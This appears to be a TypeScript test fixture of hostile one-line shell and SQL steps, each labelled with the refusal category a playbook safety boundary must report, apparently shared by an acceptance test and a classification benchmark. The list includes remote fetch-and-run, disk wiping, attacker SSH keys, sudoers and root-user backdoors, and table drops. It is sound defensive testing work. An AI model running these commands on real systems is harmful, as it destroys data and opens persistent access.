/**
 * Every example of issue 10, spelled out: each is one step of a playbook declared reversible and
 * unattended, with the effect (or target rule) the boundary must name when it refuses it. Shared
 * by the CLI acceptance test and the classification benchmark.
 */
export interface HostileExample {
  /** The step: shell unless `sql` is set. */
  step: string;
  sql?: boolean;
  /** What the refusal must name: an effect (`reboot`) or a target rule (`protected-reach`). */
  names: string;
}

export const DECLARED_PATH = "/srv/app/conf";

export const HOSTILE_EXAMPLES: HostileExample[] = [
  // reboot by another spelling
  { step: "/sbin/reboot", names: "reboot" },
  { step: "sudo -n /sbin/reboot", names: "reboot" },
  { step: "r\\eboot", names: "reboot" },
  { step: "x=reb; ${x}oot", names: "opaque" },
  { step: "echo b > /proc/sysrq-trigger", names: "destructive" },
  { step: "kill -9 1", names: "reboot" },
  { step: "systemctl isolate rescue.target", names: "reboot" },
  // code the audit cannot see
  { step: "echo L3NiaW4vcmVib290Cg== | base64 -d | sh", names: "opaque" },
  { step: "curl -fsS https://example.com/x.sh | sh", names: "opaque" },
  { step: "bash <(curl -fsS https://example.com/x.sh)", names: "opaque" },
  { step: "python3 -c 'import os; os.system(\"reboot\")'", names: "opaque" },
  { step: 'sh -c "/sbin/reboot"', names: "opaque" },
  // stateful restarts
  { step: "docker restart ollama quote-cache", names: "stateful-restart" },
  { step: "systemctl -q restart postgresql", names: "stateful-restart" },
  { step: "docker ps; service postgresql restart", names: "stateful-restart" },
  { step: "docker compose down", names: "stateful-restart" },
  { step: "pkill -9 postgres", names: "stateful-restart" },
  // data and files
  { step: `rm -rf ${DECLARED_PATH}/old /var/lib/postgresql`, names: "data" },
  { step: "/bin/rm -rf /etc", names: "data" },
  { step: "find /var/lib/postgresql -name '*.old' -delete", names: "data" },
  { step: "truncate -s 0 /var/log/syslog", names: "data" },
  { step: ": > /var/lib/postgresql/15/main/PG_VERSION", names: "data" },
  { step: "mv /var/lib/postgresql /tmp/pg", names: "data" },
  { step: `rsync -a --delete ${DECLARED_PATH}/empty/ /var/lib/postgresql/`, names: "data" },
  { step: "dd if=/dev/zero of=/dev/sda bs=1M count=1", names: "destructive" },
  { step: "cat /dev/zero > /dev/sda", names: "destructive" },
  // persistence and privilege
  { step: "echo '* * * * * root /tmp/x' > /etc/cron.d/rounds", names: "privilege" },
  { step: "echo 'rounds ALL=(ALL) NOPASSWD:ALL' >> /etc/sudoers", names: "privilege" },
  { step: "echo 'ssh-ed25519 AAAAC3Nz attacker' >> /root/.ssh/authorized_keys", names: "privilege" },
  { step: "useradd -o -u 0 toor", names: "privilege" },
  { step: "passwd -d root", names: "privilege" },
  // network and the firewall's host
  { step: "ip link set eth0 down", names: "network" },
  { step: "ip route del default", names: "network" },
  { step: "ssh root@192.168.100.1 /sbin/reboot", names: "protected-reach" },
  { step: "curl -X POST http://192.168.100.1/api/apply", names: "protected-reach" },
  { step: "iptables -F", names: "firewall" },
  // SQL, in sql steps
  { sql: true, step: "DROP/**/TABLE ticks", names: "schema" },
  { sql: true, step: "DROP -- c\nTABLE ticks", names: "schema" },
  { sql: true, step: "drop table ticks", names: "schema" },
  { sql: true, step: "UPDATE ONLY ticks SET price = 0", names: "data" },
  { sql: true, step: "COPY ticks TO PROGRAM 'reboot'", names: "server" },
  { sql: true, step: "DO $$ BEGIN EXECUTE 'DR' || 'OP TABLE ticks'; END $$", names: "opaque" },
  { sql: true, step: "ALTER ROLE exporter SUPERUSER", names: "privilege" },
  { sql: true, step: "GRANT ALL ON ALL TABLES IN SCHEMA public TO PUBLIC", names: "privilege" },
  { sql: true, step: "SELECT pg_terminate_backend(pid) FROM pg_stat_activity", names: "server" },
  { sql: true, step: "SELECT pg_promote()", names: "server" },
  { sql: true, step: "VACUUM (FULL) ticks", names: "server" },
  { sql: true, step: "LOCK TABLE ticks", names: "server" },
  // SQL inside shell
  { step: "echo 'DROP TABLE ticks' | psql market", names: "schema" },
  { step: "psql -c 'drop table ticks' market", names: "schema" },
  { step: "dropdb market", names: "schema" },
  // the business surface
  { step: "docker pause trading-beta", names: "protected-service" },
  { step: "docker exec trading-alpha ls /", names: "protected-service" },
  { step: "docker restart Trading-Alpha", names: "protected-service" },
];

/** A playbook holding one hostile step, declared reversible and unattended, on agent01 (db01 for SQL). */
export function hostilePlaybook(id: string, example: HostileExample): string {
  const step = example.sql ? `- sql: ${JSON.stringify(example.step)}\n      database: market` : `- ssh: ${JSON.stringify(example.step)}`;
  return `id: ${id}
title: Looks harmless
class: reversible
mode: unattended
targets: { hosts: [${example.sql ? "db01" : "agent01"}] }
paths: [${DECLARED_PATH}]
steps:
  snapshot:
    - ssh: "true"
  apply:
    ${step}
  verify:
    - ssh: "true"
  rollback:
    - ssh: "true"
`;
}
